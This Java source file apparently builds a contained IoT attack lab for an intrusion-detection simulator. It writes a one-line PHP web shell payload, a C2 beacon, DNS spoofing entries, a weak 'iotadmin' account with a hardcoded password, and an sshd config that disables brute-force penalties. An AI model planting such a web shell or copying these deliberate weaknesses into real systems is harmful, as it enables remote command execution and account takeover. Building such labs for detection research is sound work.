package io.iotwatch.sim.lab;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The files of one run, under {@code OUT_DIR/run}: the lab's scripts and word list (copied from the jar), the
 * services' configurations, the victim's SSH host key and its private account files, the upload folder the web
 * shell lands in, and the tunnel's data. Nothing outside this folder is written; the victim's sshd sees the
 * account files through bind mounts in a mount namespace of its own, so the machine's users are untouched.
 */
public final class LabFiles {

    /** The victim's weak account, for SSH and telnet; its password is the word list's last word. */
    public static final String LAB_USER = "iotadmin";
    public static final String LAB_PASSWORD = "admin123";
    static final String TUNNEL_PASSWORD = "lab-tunnel";
    static final int TUNNEL_BYTES = 48 * 1024;
    private static final int LAB_UID = 64077;
    private static final List<String> SCRIPTS = List.of("vulnweb.py", "telnetd.py", "dnsd.py", "benign.py", "mirai.py");
    private static final Pattern OPENSSH_VERSION = Pattern.compile("OpenSSH_(\\d+)\\.(\\d+)");

    private final Path root;

    public LabFiles(Path root) {
        this.root = root;
    }

    public Path root() {
        return root;
    }

    Path script(String name) {
        return root.resolve("bin").resolve(name);
    }

    Path passwords() {
        return root.resolve("lists/passwords.txt");
    }

    Path hostKey() {
        return root.resolve("ssh/host_ed25519");
    }

    Path sshdConfig() {
        return root.resolve("ssh/sshd_config");
    }

    Path accounts() {
        return root.resolve("etc");
    }

    Path home() {
        return root.resolve("home").resolve(LAB_USER);
    }

    Path mosquittoConfig() {
        return root.resolve("mosquitto.conf");
    }

    Path www(String site) {
        return root.resolve("www").resolve(site);
    }

    Path uploads() {
        return root.resolve("uploads");
    }

    Path webShell() {
        return root.resolve("payloads/shell.php");
    }

    Path tunnelData() {
        return root.resolve("payloads/tunnel-data.bin");
    }

    Path tunnelReceived() {
        return root.resolve("tunnel-received.bin");
    }

    Path spoofedHosts() {
        return root.resolve("dnsspoof.hosts");
    }

    /** Writes everything that needs no program: scripts, word list, configurations, payloads. */
    void writeStatic(long seed) throws IOException {
        for (String dir : List.of("bin", "lists", "ssh", "etc", "payloads", "uploads")) {
            Files.createDirectories(root.resolve(dir));
        }
        Files.createDirectories(home());
        for (String script : SCRIPTS) {
            copyResource(script, script(script));
        }
        copyResource("passwords.txt", passwords());
        Files.writeString(mosquittoConfig(), String.join("\n",
                "listener 1883 " + Topology.VICTIM.address(),
                "allow_anonymous true",
                "persistence false",
                "log_dest stdout",
                ""));
        Files.createDirectories(www("c2"));
        Files.writeString(www("c2").resolve("beacon"), "sleep 30\n");
        Files.createDirectories(www("cloud").resolve("fw"));
        Files.writeString(www("cloud").resolve("fw/check"), "{\"latest\":\"2.1.7\"}\n");
        Files.writeString(webShell(), "<?php system($_GET['cmd']); ?>\n");
        byte[] data = new byte[TUNNEL_BYTES];
        new Random(seed).nextBytes(data);
        Files.write(tunnelData(), data);
        Files.writeString(spoofedHosts(), Topology.ATTACKER.address() + " " + SpoofingAttacks.SPOOFED_NAME + "\n");
    }

    /** ssh-keygen's command for the victim's host key. */
    List<String> hostKeyCommand() {
        return List.of("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "iwlab-victim", "-f", hostKey().toString());
    }

    /** The command that prints the SHA-512 crypt hash of the lab password (BusyBox's mkpasswd). */
    static List<String> passwordHashCommand(long seed) {
        return List.of("busybox", "mkpasswd", "-m", "sha512", LAB_PASSWORD, "iwlab" + Long.toHexString(seed & 0xffffffL));
    }

    /**
     * The victim's account files: the machine's passwd and group (sshd needs its own privilege separation
     * user from them) with the lab user added, and a shadow file that holds the lab user only, so no hash of
     * the machine's accounts is copied.
     */
    void writeAccounts(String passwordHash, String systemPasswd, String systemGroup) throws IOException {
        if (!passwordHash.startsWith("$6$")) {
            throw new IOException("mkpasswd gave no SHA-512 crypt hash: " + passwordHash);
        }
        Files.writeString(accounts().resolve("passwd"), withLine(systemPasswd,
                LAB_USER + ":x:" + LAB_UID + ":" + LAB_UID + ":lab IoT admin:" + home() + ":/bin/sh"));
        Files.writeString(accounts().resolve("group"), withLine(systemGroup, LAB_USER + ":x:" + LAB_UID + ":"));
        Path shadow = accounts().resolve("shadow");
        Files.writeString(shadow, LAB_USER + ":" + passwordHash.strip() + ":20000:0:99999:7:::\n");
        Files.setPosixFilePermissions(shadow, PosixFilePermissions.fromString("rw-------"));
    }

    private static String withLine(String file, String line) {
        String lines = file.lines().filter(l -> !l.startsWith(LAB_USER + ":")).reduce("", (a, b) -> a + b + "\n");
        return lines + line + "\n";
    }

    /**
     * The victim's sshd_config for OpenSSH {@code sshVersion} (what {@code ssh -V} prints): passwords allowed,
     * three tries per connection (so a dictionary makes many short sessions, as against Dropbear-like IoT
     * servers), and from OpenSSH 9.8 on, no penalties for failing sources, which would end the attack early.
     */
    String sshdConfig(String sshVersion) {
        StringBuilder config = new StringBuilder();
        for (String line : List.of("Port 22", "ListenAddress " + Topology.VICTIM.address(), "HostKey " + hostKey(),
                "PidFile " + root.resolve("ssh/sshd.pid"), "UsePAM no", "PasswordAuthentication yes",
                "PubkeyAuthentication no", "PermitRootLogin no", "AllowUsers " + LAB_USER, "MaxAuthTries 3",
                "MaxStartups 100:30:200", "LoginGraceTime 20", "StrictModes no", "UseDNS no")) {
            config.append(line).append('\n');
        }
        Matcher version = OPENSSH_VERSION.matcher(sshVersion);
        if (version.find()) {
            int major = Integer.parseInt(version.group(1));
            int minor = Integer.parseInt(version.group(2));
            if (major > 9 || major == 9 && minor >= 8) {
                config.append("PerSourcePenalties no\n");
            }
        }
        return config.toString();
    }

    /**
     * The victim's sshd, in a mount namespace of its own where the lab's account files are bound over the
     * machine's and {@code /run} is a private tmpfs holding the {@code /run/sshd} it needs.
     */
    NsCommand sshd() {
        Path etc = accounts();
        String script = String.join(" && ",
                "mount -t tmpfs -o size=1m,mode=755 iwlab-run /run",
                "mkdir -p /run/sshd",
                "mount --bind " + Shell.quote(etc.resolve("passwd").toString()) + " /etc/passwd",
                "mount --bind " + Shell.quote(etc.resolve("shadow").toString()) + " /etc/shadow",
                "mount --bind " + Shell.quote(etc.resolve("group").toString()) + " /etc/group",
                "exec /usr/sbin/sshd -D -e -f " + Shell.quote(sshdConfig().toString()));
        return NsCommand.unbounded(Topology.VICTIM, "unshare", "--mount", "--propagation", "private", "--", "sh", "-c",
                script);
    }

    private static void copyResource(String name, Path target) throws IOException {
        try (InputStream in = LabFiles.class.getResourceAsStream(name)) {
            if (in == null) {
                throw new IOException("the lab resource " + name + " is missing from the jar");
            }
            Files.copy(in, target, StandardCopyOption.REPLACE_EXISTING);
        }
    }

    /** The bundled word list, for tests and docs. */
    public static List<String> passwordList() {
        try (InputStream in = LabFiles.class.getResourceAsStream("passwords.txt")) {
            if (in == null) {
                throw new IOException("passwords.txt is missing from the jar");
            }
            return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().filter(l -> !l.isBlank()).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
